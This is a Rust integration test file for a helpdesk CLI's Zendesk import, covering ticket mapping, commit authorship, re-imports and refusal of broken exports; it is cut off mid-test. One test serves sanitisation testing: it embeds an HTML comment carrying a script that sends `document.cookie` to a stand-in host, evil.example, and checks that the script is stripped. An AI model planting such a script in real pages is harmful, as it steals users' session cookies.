//! `tix import`, end to end, on the sample exports of
//! `tests/fixtures/import/` (their README says what each holds): Zendesk
//! JSON, LiveAgent CSV and any CSV become tickets with their people,
//! conversations and times, one commit each, authored by the old
//! helpdesk's person and committed by the importer; importing again
//! changes nothing, a newer export updates what changed and never undoes
//! what the desk did since; a broken export writes nothing unless
//! `--skip-bad` leaves its broken parts out.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use serde_json::{Value, json};

use crate::common::{AGENT_EMAIL, T0, TestEnv, fixture};

/// The absolute path of a sample export.
fn sample(name: &str) -> String {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/import")
        .join(name)
        .display()
        .to_string()
}

/// A sample export parsed as JSON.
fn sample_json(name: &str) -> Value {
    serde_json::from_str(&fixture(&format!("import/{name}"))).unwrap()
}

/// The ticket `id` of a Zendesk page.
fn zendesk_ticket(page: &Value, id: u64) -> &Value {
    page["tickets"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["id"] == id)
        .unwrap_or_else(|| panic!("no ticket {id} in the page"))
}

/// The Zendesk user `id` of a page, if it names them.
fn zendesk_user(page: &Value, id: &Value) -> Option<Value> {
    page["users"]
        .as_array()
        .unwrap()
        .iter()
        .find(|u| u["id"] == *id)
        .cloned()
}

/// `tix import ARGS`, asserting success; returns stdout.
fn import(env: &TestEnv, args: &[&str]) -> String {
    let mut all = vec!["import"];
    all.extend_from_slice(args);
    env.ok(&all)
}

/// `tix import ARGS --format json`.
fn import_json(env: &TestEnv, args: &[&str]) -> Value {
    let mut all = vec!["import"];
    all.extend_from_slice(args);
    all.extend_from_slice(&["--format", "json"]);
    env.json(&all)
}

/// `tix import ARGS`, asserting success; returns stdout and stderr.
fn import_with_stderr(env: &TestEnv, args: &[&str]) -> (String, String) {
    let mut all = vec!["import"];
    all.extend_from_slice(args);
    let out = env.tix(&all);
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.success(), "tix {all:?}: {stderr}");
    (String::from_utf8(out.stdout).unwrap(), stderr)
}

/// Every ticket's id by its source (`zendesk:101`), closed ones too.
fn ids_by_source(env: &TestEnv) -> BTreeMap<String, String> {
    env.json(&["list", "--all", "--format", "json"])
        .as_array()
        .unwrap()
        .iter()
        .map(|t| {
            let source = t["source"]
                .as_str()
                .unwrap_or_else(|| panic!("a ticket without a source: {t}"));
            (source.to_owned(), t["id"].as_str().unwrap().to_owned())
        })
        .collect()
}

/// The id of the ticket imported from `source`.
fn id_of(env: &TestEnv, source: &str) -> String {
    let ids = ids_by_source(env);
    ids.get(source)
        .unwrap_or_else(|| panic!("no ticket from {source}: {ids:?}"))
        .clone()
}

/// `tix show --format json` of the ticket imported from `source`.
fn by_source(env: &TestEnv, source: &str) -> Value {
    env.show(&id_of(env, source))
}

/// Each message as `[role, author, at, body]`.
fn conversation(ticket: &Value) -> Vec<[String; 4]> {
    ticket["messages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| {
            ["role", "author", "at", "body"].map(|k| m[k].as_str().unwrap_or_default().to_owned())
        })
        .collect()
}

/// Each status change as `(at, by, from, to, reason)`.
fn history(ticket: &Value) -> Vec<(Value, Value, Value, Value, Value)> {
    ticket["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| {
            (
                h["at"].clone(),
                h["by"].clone(),
                h["from"].clone(),
                h["to"].clone(),
                h["reason"].clone(),
            )
        })
        .collect()
}

/// Runs a refused command: exit `code`, nothing on stdout, no commit,
/// nothing left in the working tree; returns stderr.
fn refused(env: &TestEnv, args: &[&str], code: i32) -> String {
    let head = env.head();
    let stderr = env.fail(args, code);
    assert_eq!(env.head(), head, "tix {args:?} committed");
    assert_eq!(env.git(&["status", "--porcelain"]), "", "tix {args:?}");
    stderr
}

/// Seconds since 1970 of an RFC 3339 time.
fn unix(time: &str) -> i64 {
    chrono::DateTime::parse_from_rfc3339(time)
        .unwrap_or_else(|e| panic!("{time}: {e}"))
        .timestamp()
}

/// `author name|author email|author time|committer name|committer
/// email|committer time|subject` of the last commit that touched `id`.
fn commit_of(env: &TestEnv, id: &str) -> [String; 7] {
    let line = env.git(&[
        "log",
        "-1",
        "--format=%an|%ae|%at|%cn|%ce|%ct|%s",
        "--",
        &env.ticket_path(id),
    ]);
    let parts: Vec<String> = line.trim_end().splitn(7, '|').map(str::to_owned).collect();
    parts.try_into().unwrap()
}

fn sorted(ids: &Value) -> Vec<String> {
    let mut ids: Vec<String> = ids
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap().to_owned())
        .collect();
    ids.sort();
    ids
}

fn sorted_ids(ids: &[&str]) -> Vec<String> {
    let mut ids: Vec<String> = ids.iter().map(|&s| s.to_owned()).collect();
    ids.sort();
    ids
}

/// Appends `text` to the desk's tix.toml and commits it.
fn configure(env: &TestEnv, text: &str) {
    let config = std::fs::read_to_string(env.path("tix.toml")).unwrap();
    env.commit_file("tix.toml", &format!("{config}\n{text}"));
}

// ---------------------------------------------------------------- Zendesk

/// A desk with page.json imported.
fn page_desk() -> TestEnv {
    let env = TestEnv::new();
    let out = import(&env, &["zendesk", &sample("zendesk/page.json")]);
    assert_eq!(out, "Imported 9 tickets: 9 new, 0 updated, 0 unchanged.\n");
    env
}

#[test]
fn a_zendesk_page_becomes_tickets_with_the_exports_statuses_times_and_people() {
    let env = page_desk();
    let ids = ids_by_source(&env);
    let sources: Vec<String> = (101..=109).map(|n| format!("zendesk:{n}")).collect();
    assert_eq!(ids.keys().cloned().collect::<Vec<_>>(), sources);
    let page = sample_json("zendesk/page.json");
    let statuses = [
        (101, "postponed"), // hold
        (102, "new"),
        (103, "answered"), // pending
        (104, "open"),
        (105, "resolved"), // solved
        (106, "closed"),
        (107, "open"),
        (108, "resolved"),
        (109, "closed"),
    ];
    for (n, status) in statuses {
        let zd = zendesk_ticket(&page, n);
        let t = by_source(&env, &format!("zendesk:{n}"));
        assert_eq!(t["status"], status, "zendesk:{n}");
        assert_eq!(t["source"], format!("zendesk:{n}"));
        // Times, subjects (Japanese, emoji, 345 characters) and tags as
        // the export has them.
        assert_eq!(t["created"], zd["created_at"], "zendesk:{n}");
        assert_eq!(t["updated"], zd["updated_at"], "zendesk:{n}");
        assert_eq!(t["subject"], zd["subject"], "zendesk:{n}");
        let mut tags: Vec<Value> = zd["tags"].as_array().unwrap().clone();
        tags.sort_by_key(|v| v.as_str().unwrap().to_owned());
        assert_eq!(t["tags"], Value::Array(tags), "zendesk:{n}");
        let priority = zd["priority"].as_str().unwrap_or("normal");
        assert_eq!(t["priority"], priority, "zendesk:{n}");
        let department = page["groups"]
            .as_array()
            .unwrap()
            .iter()
            .find(|g| g["id"] == zd["group_id"])
            .map_or(Value::Null, |g| g["name"].clone());
        assert_eq!(t["department"], department, "zendesk:{n}");
        let assignee =
            zendesk_user(&page, &zd["assignee_id"]).map_or(Value::Null, |u| u["email"].clone());
        assert_eq!(t["assignee"], assignee, "zendesk:{n}");
        let requester = zendesk_user(&page, &zd["requester_id"]).unwrap();
        assert_eq!(t["customer"]["name"], requester["name"], "zendesk:{n}");
        assert_eq!(t["customer"]["email"], requester["email"], "zendesk:{n}");
        // One message a comment, at its time: private ones are notes,
        // end users' the customer's, the others the agents'.
        let comments = zd["comments"].as_array().unwrap();
        let messages = t["messages"].as_array().unwrap();
        assert_eq!(messages.len(), comments.len(), "zendesk:{n}");
        for (m, c) in messages.iter().zip(comments) {
            assert_eq!(m["at"], c["created_at"], "zendesk:{n}");
            let author = zendesk_user(&page, &c["author_id"]);
            let role = if c["public"] == false {
                "note"
            } else if author.as_ref().is_some_and(|u| u["role"] == "end-user") {
                "customer"
            } else {
                "agent"
            };
            assert_eq!(m["role"], role, "zendesk:{n} {c}");
            let body = c["body"].as_str().unwrap_or_default();
            if !body.is_empty() && c["attachments"].as_array().unwrap().is_empty() {
                assert_eq!(m["body"], body, "zendesk:{n}");
            }
        }
    }
    // Unicode as written: a combining diaeresis stays one.
    let zoe = by_source(&env, "zendesk:106");
    assert_eq!(zoe["customer"]["name"], "Zoe\u{308} Brandt");
    assert_eq!(
        by_source(&env, "zendesk:102")["subject"],
        "請求書のPDFがダウンロードできません 🙏"
    );
    let long = by_source(&env, "zendesk:107")["subject"].clone();
    assert_eq!(long.as_str().unwrap().chars().count(), 345);
    // The phone-only requester keeps the phone.
    assert_eq!(
        by_source(&env, "zendesk:105")["customer"],
        json!({"name": "Olav Haugen", "email": null, "phone": "+4791234567"})
    );
}

#[test]
fn zendesk_comments_become_customer_messages_agent_replies_and_notes() {
    let env = page_desk();
    // 104: the conversation in order, the deleted agent's note named by id.
    let t104 = by_source(&env, "zendesk:104");
    let messages = conversation(&t104);
    let who: Vec<(&str, &str, &str)> = messages
        .iter()
        .map(|m| (m[0].as_str(), m[1].as_str(), m[2].as_str()))
        .collect();
    assert_eq!(
        who,
        [
            (
                "customer",
                "ingrid.solberg@fjellsport.example",
                "2024-10-07T09:12:44Z"
            ),
            (
                "agent",
                "maja.lindqvist@kestrel-outdoor.example",
                "2024-10-07T11:30:05Z"
            ),
            (
                "note",
                "maja.lindqvist@kestrel-outdoor.example",
                "2024-10-07T11:32:40Z"
            ),
            (
                "customer",
                "ingrid.solberg@fjellsport.example",
                "2024-10-08T07:58:13Z"
            ),
            ("note", "Zendesk user 389114400099", "2024-10-09T15:26:08Z"),
        ]
    );
    assert!(
        messages[0][3].contains("Attachment: sync-duplicates.png"),
        "{}",
        messages[0][3]
    );
    let page104 = env.ok(&["show", &id_of(&env, "zendesk:104")]);
    assert!(
        page104.contains("Zendesk user 389114400099 (internal note)"),
        "{page104}"
    );
    assert!(
        page104
            .lines()
            .any(|l| l.starts_with("Source") && l.trim_end().ends_with(" zendesk:104")),
        "{page104}"
    );
    // 101: an agent's own ticket with notes by an agent and an admin.
    let roles101: Vec<String> = conversation(&by_source(&env, "zendesk:101"))
        .into_iter()
        .map(|m| format!("{} {}", m[0], m[1]))
        .collect();
    assert_eq!(
        roles101,
        [
            "agent tomasz.wisniewski@kestrel-outdoor.example",
            "note tomasz.wisniewski@kestrel-outdoor.example",
            "note priya.raman@kestrel-outdoor.example",
        ]
    );
    // Closed tickets were solved first, both at the export's last change.
    let closed = "2025-01-29T12:00:03Z";
    assert_eq!(
        history(&by_source(&env, "zendesk:106")),
        [
            (
                json!("2025-01-08T10:00:41Z"),
                json!("zoe.brandt@example.de"),
                Value::Null,
                json!("new"),
                Value::Null
            ),
            (
                json!(closed),
                json!("import"),
                json!("new"),
                json!("resolved"),
                Value::Null
            ),
            (
                json!(closed),
                json!("import"),
                json!("resolved"),
                json!("closed"),
                Value::Null
            ),
        ]
    );
}

#[test]
fn html_only_zendesk_comments_become_text() {
    let env = page_desk();
    let reply103 = &conversation(&by_source(&env, "zendesk:103"))[1];
    assert_eq!(reply103[0], "agent");
    assert_eq!(reply103[1], "maja.lindqvist@kestrel-outdoor.example");
    assert_eq!(reply103[2], "2024-09-03T08:02:10Z");
    let text = &reply103[3];
    assert!(text.starts_with("Hola José,"), "{text}");
    assert!(
        text.contains("claro que sí: puede cambiarla sin coste.\nSolo tiene que rellenar"),
        "{text}"
    );
    assert!(text.contains("devoluciones & cambios"), "{text}");
    for bad in ["<", ">", "&amp;", "href", "zd-comment"] {
        assert!(!text.contains(bad), "{bad} in {text}");
    }
    // 108's comment has no body key at all.
    let reply108 = &conversation(&by_source(&env, "zendesk:108"))[1];
    assert_eq!(reply108[0], "agent");
    let text = &reply108[3];
    assert!(
        text.contains("田中様") && text.contains("もう一度ログインページをお試しください。"),
        "{text}"
    );
    assert!(!text.contains('<') && !text.contains("&amp;"), "{text}");
}

#[test]
fn zendesk_ratings_order_numbers_and_sources_come_in_as_written() {
    let env = page_desk();
    // Ratings: good is 5, bad is 1, with their comments; offered is none.
    let t105 = by_source(&env, "zendesk:105");
    assert_eq!(t105["rating"]["score"], 5);
    assert_eq!(
        t105["rating"]["comment"],
        "Rask og hyggelig hjelp, takk! 👍"
    );
    let t106 = by_source(&env, "zendesk:106");
    assert_eq!(t106["rating"]["score"], 1);
    assert_eq!(
        t106["rating"]["comment"],
        "Took two weeks and I had to chase it. Product is great, support was slow."
    );
    for n in [101, 108, 109] {
        let t = by_source(&env, &format!("zendesk:{n}"));
        assert_eq!(t["rating"], Value::Null, "zendesk:{n}");
    }
    // `#12345` is an order number: found by search, linked to nothing.
    let found = env.json(&["list", "--all", "--search", "12345", "--format", "json"]);
    let found: Vec<&str> = found
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["source"].as_str().unwrap())
        .collect();
    assert_eq!(found, ["zendesk:107"]);
    assert_eq!(
        by_source(&env, "zendesk:107")["links"],
        json!({"follow_up_of": null, "duplicate_of": null, "related": [], "merged_from": []})
    );
    // The file remembers where the ticket came from.
    let file = env.read_ticket_file(&id_of(&env, "zendesk:101"));
    assert!(file.contains("source = \"zendesk:101\""), "{file}");
}

#[test]
fn an_html_only_comment_keeps_its_words_and_loses_its_script() {
    let env = TestEnv::new();
    let path = env.home().join("hostile.json");
    let page = json!({
        "tickets": [{
            "id": 901,
            "subject": "HTML only",
            "status": "open",
            "requester_id": 1,
            "created_at": "2025-01-02T03:04:05Z",
            "updated_at": "2025-01-02T04:00:00Z",
            "comments": [{
                "author_id": 1,
                "public": true,
                "created_at": "2025-01-02T03:04:05Z",
                "html_body": "<div dir=\"ltr\"><p>Hello &mdash; it&#39;s <b>broken</b></p><script>document.location=\"https://evil.example/?c=\"+document.cookie</script><style>p{color:red}</style><p>Line<br>two</p></div>"
            }]
        }],
        "users": [{"id": 1, "name": "Eve", "email": "eve@example.com", "role": "end-user"}]
    });
    std::fs::write(&path, page.to_string()).unwrap();
    import(&env, &["zendesk", path.to_str().unwrap()]);
    let body = &conversation(&by_source(&env, "zendesk:901"))[0][3];
    assert!(body.contains("Hello — it's broken"), "{body}");
    assert!(body.contains("Line\ntwo"), "{body}");
    for bad in ["evil", "document", "color", "<", "&#39;", "&mdash;"] {
        assert!(!body.contains(bad), "{bad} in {body:?}");
    }
}

#[test]
fn each_imported_ticket_is_one_commit_by_its_last_writer_committed_by_the_importer() {
    let env = TestEnv::new();
    let before = env.commits();
    import(&env, &["zendesk", &sample("zendesk/page.json")]);
    assert_eq!(env.commits(), before + 9, "one commit a ticket");
    assert_eq!(env.git(&["status", "--porcelain"]), "", "the tree is clean");
    let ids = ids_by_source(&env);
    // Each commit writes exactly one ticket file, each ticket once.
    let log = env.git(&["log", "-9", "--format=%H"]);
    let mut touched = BTreeSet::new();
    for commit in log.lines() {
        let files = env.git(&["show", "--format=", "--name-only", commit]);
        let files: Vec<&str> = files.lines().collect();
        assert_eq!(files.len(), 1, "{commit}: {files:?}");
        assert!(touched.insert(files[0].to_owned()), "{files:?} twice");
    }
    let expected: BTreeSet<String> = ids.values().map(|id| env.ticket_path(id)).collect();
    assert_eq!(touched, expected);

    // 107: the last comment is Priya's, at the ticket's last change.
    let id = &ids["zendesk:107"];
    let [an, ae, at, cn, ce, ct, subject] = commit_of(&env, id);
    assert_eq!(
        (an.as_str(), ae.as_str()),
        ("Priya Raman", "priya.raman@kestrel-outdoor.example")
    );
    assert_eq!(at.parse::<i64>().unwrap(), unix("2025-03-04T11:20:55Z"));
    assert_eq!((cn.as_str(), ce.as_str()), ("Ana Lima", AGENT_EMAIL));
    assert_eq!(ct.parse::<i64>().unwrap(), unix(T0));
    assert!(
        subject.starts_with(&format!(
            "{id}: import zendesk:107 (new -> open) Re: Fwd: URGENT — order #12345"
        )),
        "{subject}"
    );
    let message = env.git(&["log", "-1", "--format=%B", "--", &env.ticket_path(id)]);
    assert!(
        message.contains(&format!("Tix-Ticket: {id}\nTix-Action: import\n")),
        "{message}"
    );
    // 105: the last comment is Maja's; the ticket changed later (solved,
    // rated): the commit is dated at that change.
    let id = &ids["zendesk:105"];
    let [an, ae, at, cn, _, _, subject] = commit_of(&env, id);
    assert_eq!(
        (an.as_str(), ae.as_str()),
        ("Maja Lindqvist", "maja.lindqvist@kestrel-outdoor.example")
    );
    assert_eq!(at.parse::<i64>().unwrap(), unix("2024-11-15T09:30:12Z"));
    assert_eq!(cn, "Ana Lima");
    assert_eq!(
        subject,
        format!("{id}: import zendesk:105 (new -> resolved) Voicemail from: +47 912 34 567")
    );
    // 102: a new ticket stays new; its author is the Japanese requester.
    let id = &ids["zendesk:102"];
    let [an, ae, at, ..] = commit_of(&env, id);
    let subject = &commit_of(&env, id)[6];
    assert_eq!(
        (an.as_str(), ae.as_str()),
        ("田中 さくら", "sakura.tanaka@kaisha.example.jp")
    );
    assert_eq!(at.parse::<i64>().unwrap(), unix("2024-06-18T02:47:31Z"));
    assert_eq!(
        subject,
        &format!("{id}: import zendesk:102 請求書のPDFがダウンロードできません 🙏")
    );
    // 106: closed (through resolved).
    let id = &ids["zendesk:106"];
    let subject = &commit_of(&env, id)[6];
    assert_eq!(
        subject,
        &format!("{id}: import zendesk:106 (new -> closed) Riss am Tragegurt – Garantie?")
    );
}

/// Ticket 104's last comment is by a deleted agent the export does not
/// name: git needs an address, so the importer signs, but the commit is
/// still dated at the ticket's last change in the export.
#[test]
fn a_ticket_whose_last_writer_has_no_address_is_still_dated_at_its_last_change() {
    let env = TestEnv::new();
    env.at("2025-12-01T00:00:00Z");
    import(&env, &["zendesk", &sample("zendesk/page.json")]);
    let id = id_of(&env, "zendesk:104");
    let [an, ae, at, cn, ce, ct, _] = commit_of(&env, &id);
    assert_eq!((cn.as_str(), ce.as_str()), ("Ana Lima", AGENT_EMAIL));
    assert_eq!(ct.parse::<i64>().unwrap(), unix("2025-12-01T00:00:00Z"));
    assert!(!an.is_empty() && !ae.is_empty());
    assert_eq!(
        at.parse::<i64>().unwrap(),
        unix("2024-10-09T15:26:08Z"),
        "author {an} <{ae}> dated at the import's clock instead of the export's last change"
    );
}

#[test]
fn importing_again_changes_nothing_and_a_newer_export_updates_only_what_changed() {
    let env = TestEnv::new();
    let page = sample("zendesk/page.json");
    let newer = sample("zendesk/page-newer.json");
    import(&env, &["zendesk", &page]);
    let before = ids_and_head(&env);
    let out = import(&env, &["zendesk", &page]);
    assert_eq!(out, "Imported 9 tickets: 0 new, 0 updated, 9 unchanged.\n");
    assert_eq!(ids_and_head(&env), before, "a second import wrote");
    assert_eq!(env.git(&["status", "--porcelain"]), "");
    let old104 = by_source(&env, "zendesk:104");
    let old107 = by_source(&env, "zendesk:107");

    // The newer page: 104 has a new comment, 107 was solved, 110 is new.
    let commits = env.commits();
    let report = import_json(&env, &["zendesk", &newer]);
    let ids = ids_by_source(&env);
    assert_eq!(report["records"], 10);
    assert_eq!(sorted(&report["created"]), [ids["zendesk:110"].clone()]);
    assert_eq!(
        sorted(&report["updated"]),
        sorted_ids(&[&ids["zendesk:104"], &ids["zendesk:107"]])
    );
    assert_eq!(report["unchanged"], 7);
    assert_eq!(env.commits(), commits + 3, "one commit a changed ticket");
    assert_eq!(env.git(&["status", "--porcelain"]), "");

    let t104 = by_source(&env, "zendesk:104");
    let mut expected = conversation(&old104);
    let newer_json = sample_json("zendesk/page-newer.json");
    let new_comment = zendesk_ticket(&newer_json, 104)["comments"]
        .as_array()
        .unwrap()
        .last()
        .unwrap()
        .clone();
    expected.push([
        "agent".to_owned(),
        "maja.lindqvist@kestrel-outdoor.example".to_owned(),
        "2024-10-10T08:41:02Z".to_owned(),
        new_comment["body"].as_str().unwrap().to_owned(),
    ]);
    assert_eq!(conversation(&t104), expected);
    assert_eq!(t104["updated"], "2024-10-10T08:41:02Z");
    assert_eq!(t104["status"], "open");
    assert_eq!(history(&t104), history(&old104), "no status change on 104");
    let [an, _, at, ..] = commit_of(&env, &ids["zendesk:104"]);
    assert_eq!(an, "Maja Lindqvist");
    assert_eq!(at.parse::<i64>().unwrap(), unix("2024-10-10T08:41:02Z"));

    // 107: the status change is an event at the export's time; no new
    // message.
    let t107 = by_source(&env, "zendesk:107");
    assert_eq!(t107["status"], "resolved");
    assert_eq!(t107["updated"], "2025-03-06T09:02:10Z");
    assert_eq!(conversation(&t107), conversation(&old107));
    let mut expected = history(&old107);
    expected.push((
        json!("2025-03-06T09:02:10Z"),
        json!("import"),
        json!("open"),
        json!("resolved"),
        Value::Null,
    ));
    assert_eq!(history(&t107), expected);
    let id107 = &ids["zendesk:107"];
    let subject = &commit_of(&env, id107)[6];
    assert!(
        subject.starts_with(&format!("{id107}: import zendesk:107 (open -> resolved) ")),
        "{subject}"
    );
    // 110: José's new ticket.
    let t110 = by_source(&env, "zendesk:110");
    assert_eq!(t110["status"], "new");
    assert_eq!(t110["subject"], "Cambio de dirección de envío");
    assert_eq!(t110["customer"]["email"], "jose.martinez@correo.example.es");
    assert_eq!(t110["assignee"], Value::Null);
    assert_eq!(t110["created"], "2025-09-30T19:22:51Z");
    // The others are as they were.
    for n in [101, 102, 103, 105, 106, 108, 109] {
        let id = &ids[&format!("zendesk:{n}")];
        assert_eq!(
            env.git(&["rev-list", "--count", "HEAD", "--", &env.ticket_path(id)])
                .trim(),
            "1",
            "zendesk:{n} was committed again"
        );
    }

    // A third import of the newer page changes nothing.
    let before = ids_and_head(&env);
    let out = import(&env, &["zendesk", &newer]);
    assert_eq!(
        out,
        "Imported 10 tickets: 0 new, 0 updated, 10 unchanged.\n"
    );
    assert_eq!(ids_and_head(&env), before);
    // Nor does the older page now: it is older than every ticket.
    let out = import(&env, &["zendesk", &page]);
    assert_eq!(out, "Imported 9 tickets: 0 new, 0 updated, 9 unchanged.\n");
    assert_eq!(ids_and_head(&env), before);
    assert_eq!(by_source(&env, "zendesk:107")["status"], "resolved");
}

#[test]
fn an_older_export_never_undoes_what_the_desk_did_since() {
    let env = TestEnv::new();
    let page = sample("zendesk/page.json");
    import(&env, &["zendesk", &page]);
    let id104 = id_of(&env, "zendesk:104");
    let id107 = id_of(&env, "zendesk:107");
    env.at("2025-10-01T10:00:00Z");
    env.ok(&["reply", &id104, "-m", "Cleanup done", "--resolve"]);
    env.ok(&["edit", &id107, "--priority", "low"]);
    let worked104 = without_sla(env.show(&id104));
    let worked107 = without_sla(env.show(&id107));
    env.at("2025-10-02T10:00:00Z");
    let head = env.head();
    let out = import(&env, &["zendesk", &page]);
    assert_eq!(out, "Imported 9 tickets: 0 new, 0 updated, 9 unchanged.\n");
    assert_eq!(env.head(), head);
    assert_eq!(without_sla(env.show(&id104)), worked104);
    assert_eq!(without_sla(env.show(&id107)), worked107);

    // The newer page adds 104's new comment in its place, before the
    // desk's reply, and keeps the desk's status and 107's priority.
    import(&env, &["zendesk", &sample("zendesk/page-newer.json")]);
    let t104 = env.show(&id104);
    assert_eq!(t104["status"], "resolved");
    assert_eq!(t104["updated"], "2025-10-01T10:00:00Z");
    let order: Vec<(String, String)> = conversation(&t104)
        .into_iter()
        .map(|m| (m[1].clone(), m[2].clone()))
        .collect();
    assert_eq!(order.len(), 7, "{order:?}");
    assert_eq!(
        order[5],
        (
            "maja.lindqvist@kestrel-outdoor.example".to_owned(),
            "2024-10-10T08:41:02Z".to_owned()
        )
    );
    assert_eq!(conversation(&t104)[6][3], "Cleanup done");
    assert_eq!(order[6].0, AGENT_EMAIL);
    assert_eq!(history(&t104), history(&worked104));
    let t107 = env.show(&id107);
    assert_eq!(t107["priority"], "low");
    assert_eq!(conversation(&t107), conversation(&worked107));
    assert_eq!(env.git(&["status", "--porcelain"]), "");
}

#[test]
fn comments_given_apart_make_the_same_conversations_as_embedded_ones() {
    let whole = TestEnv::new();
    import(&whole, &["zendesk", &sample("zendesk/page.json")]);
    let apart = TestEnv::new();
    let out = import(
        &apart,
        &[
            "zendesk",
            &sample("zendesk/tickets-only.json"),
            &sample("zendesk/comments.jsonl"),
        ],
    );
    assert_eq!(out, "Imported 3 tickets: 3 new, 0 updated, 0 unchanged.\n");
    let ids = ids_by_source(&apart);
    assert_eq!(
        ids.keys().collect::<Vec<_>>(),
        ["zendesk:101", "zendesk:102", "zendesk:103"]
    );
    for n in 101..=103 {
        let source = format!("zendesk:{n}");
        let (a, w) = (by_source(&apart, &source), by_source(&whole, &source));
        assert_eq!(a["id"], w["id"], "{source}: every desk makes the same id");
        assert!(!conversation(&a).is_empty());
        assert_eq!(conversation(&a), conversation(&w), "{source}");
        for key in [
            "subject", "status", "priority", "assignee", "customer", "tags", "created", "updated",
            "history",
        ] {
            assert_eq!(a[key], w[key], "{source}: {key}");
        }
    }
    // The comments file alone holds no tickets.
    let empty = TestEnv::new();
    let out = import(&empty, &["zendesk", &sample("zendesk/comments.jsonl")]);
    assert_eq!(out, "Imported 0 tickets: 0 new, 0 updated, 0 unchanged.\n");
}

#[test]
fn an_incremental_export_closes_deleted_tickets_and_finds_users_on_any_line() {
    let env = TestEnv::new();
    let out = import(&env, &["zendesk", &sample("zendesk/incremental.jsonl")]);
    assert_eq!(out, "Imported 5 tickets: 5 new, 0 updated, 0 unchanged.\n");
    let ids = ids_by_source(&env);
    assert_eq!(
        ids.keys().collect::<Vec<_>>(),
        [
            "zendesk:111",
            "zendesk:112",
            "zendesk:113",
            "zendesk:114",
            "zendesk:115"
        ]
    );
    // 113 was deleted: closed for that reason, without a solution; its
    // requester is in no user line; its description is its message.
    let t113 = by_source(&env, "zendesk:113");
    assert_eq!(t113["status"], "closed");
    assert_eq!(t113["subject"], "Cheap followers ✅✅✅");
    assert_eq!(t113["customer"]["name"], "Zendesk user 389114500097");
    assert_eq!(
        history(&t113),
        [
            (
                json!("2025-10-04T02:13:55Z"),
                json!("Zendesk user 389114500097"),
                Value::Null,
                json!("new"),
                Value::Null
            ),
            (
                json!("2025-10-04T08:00:19Z"),
                json!("import"),
                json!("new"),
                json!("closed"),
                json!("deleted")
            ),
        ]
    );
    assert_eq!(
        conversation(&t113)
            .into_iter()
            .map(|m| m[3].clone())
            .collect::<Vec<_>>(),
        ["Buy 10k followers today!!! Click here."]
    );
    // 112's requester is only on the later user line.
    let t112 = by_source(&env, "zendesk:112");
    assert_eq!(t112["customer"]["name"], "Amélie Laurent");
    assert_eq!(t112["customer"]["email"], "amelie.laurent@example.fr");
    assert_eq!(t112["status"], "open");
    let who: Vec<(String, String)> = conversation(&t112)
        .into_iter()
        .map(|m| (m[0].clone(), m[1].clone()))
        .collect();
    assert_eq!(
        who,
        [
            (
                "customer".to_owned(),
                "amelie.laurent@example.fr".to_owned()
            ),
            (
                "note".to_owned(),
                "maja.lindqvist@kestrel-outdoor.example".to_owned()
            ),
        ]
    );
    let t111 = by_source(&env, "zendesk:111");
    assert_eq!(t111["customer"]["name"], "Henrik Ørsted");
    assert_eq!(t111["status"], "resolved");
    assert_eq!(t111["assignee"], "priya.raman@kestrel-outdoor.example");
    assert_eq!(t111["rating"], Value::Null, "offered is no rating");
    let t114 = by_source(&env, "zendesk:114");
    assert_eq!(t114["status"], "answered");
    assert_eq!(t114["customer"]["phone"], "+4791234567");
    assert_eq!(by_source(&env, "zendesk:115")["status"], "closed");
    let found = env.json(&["list", "--all", "--search", "12345", "--format", "json"]);
    assert_eq!(found.as_array().unwrap().len(), 1);
    assert_eq!(found[0]["source"], "zendesk:115");
    // Again: nothing.
    let head = env.head();
    let out = import(&env, &["zendesk", &sample("zendesk/incremental.jsonl")]);
    assert_eq!(out, "Imported 5 tickets: 0 new, 0 updated, 5 unchanged.\n");
    assert_eq!(env.head(), head);
}

// ------------------------------------------------------------- Bad input

#[test]
fn a_cut_short_zendesk_file_is_refused_whole_and_skip_bad_keeps_what_came_before() {
    let env = TestEnv::new();
    let path = sample("zendesk/truncated.json");
    let commits = env.commits();
    let stderr = refused(&env, &["import", "zendesk", &path], 1);
    assert!(
        stderr.starts_with(&format!("error: {path}: line 560 (byte 20059): ")),
        "{stderr}"
    );
    assert!(
        stderr
            .trim_end()
            .ends_with("nothing was imported (--skip-bad leaves such parts out)"),
        "{stderr}"
    );
    assert_eq!(env.commits(), commits);
    assert_eq!(env.json(&["list", "--all", "--format", "json"]), json!([]));

    let out = env.tix(&["import", "zendesk", &path, "--skip-bad", "--format", "json"]);
    assert!(out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!("skipped {path}: line 560 (byte 20059): ")),
        "{stderr}"
    );
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    let ids = ids_by_source(&env);
    assert_eq!(
        ids.keys().collect::<Vec<_>>(),
        ["zendesk:101", "zendesk:102", "zendesk:103"]
    );
    assert_eq!(
        sorted(&report["created"]),
        sorted_ids(&ids.values().map(String::as_str).collect::<Vec<_>>())
    );
    let skipped = &report["skipped"];
    assert_eq!(skipped.as_array().unwrap().len(), 1);
    assert_eq!(skipped[0]["file"], path.as_str());
    assert_eq!(skipped[0]["line"], 560);
    assert_eq!(skipped[0]["byte"], 20059);
    assert_eq!(skipped[0]["id"], Value::Null);
    assert!(
        skipped[0]["reason"].as_str().unwrap().contains("cut short"),
        "{skipped}"
    );
    assert_eq!(env.commits(), commits + 3);
    assert_eq!(env.git(&["status", "--porcelain"]), "");
}

#[test]
fn a_bad_line_in_a_jsonl_export_is_refused_and_skip_bad_reads_on_after_it() {
    let env = TestEnv::new();
    let path = sample("zendesk/bad-line.jsonl");
    let commits = env.commits();
    let stderr = refused(&env, &["import", "zendesk", &path], 1);
    assert!(
        stderr.starts_with(&format!("error: {path}: line 4 (byte ")),
        "{stderr}"
    );
    assert!(stderr.contains("nothing was imported"), "{stderr}");
    assert_eq!(env.commits(), commits);
    // A dry run of the same refuses the same way.
    refused(&env, &["import", "zendesk", &path, "--dry-run"], 1);

    let (out, stderr) = import_with_stderr(&env, &["zendesk", &path, "--skip-bad"]);
    assert_eq!(
        out,
        "Imported 4 tickets: 4 new, 0 updated, 0 unchanged; 1 part skipped.\n"
    );
    assert!(
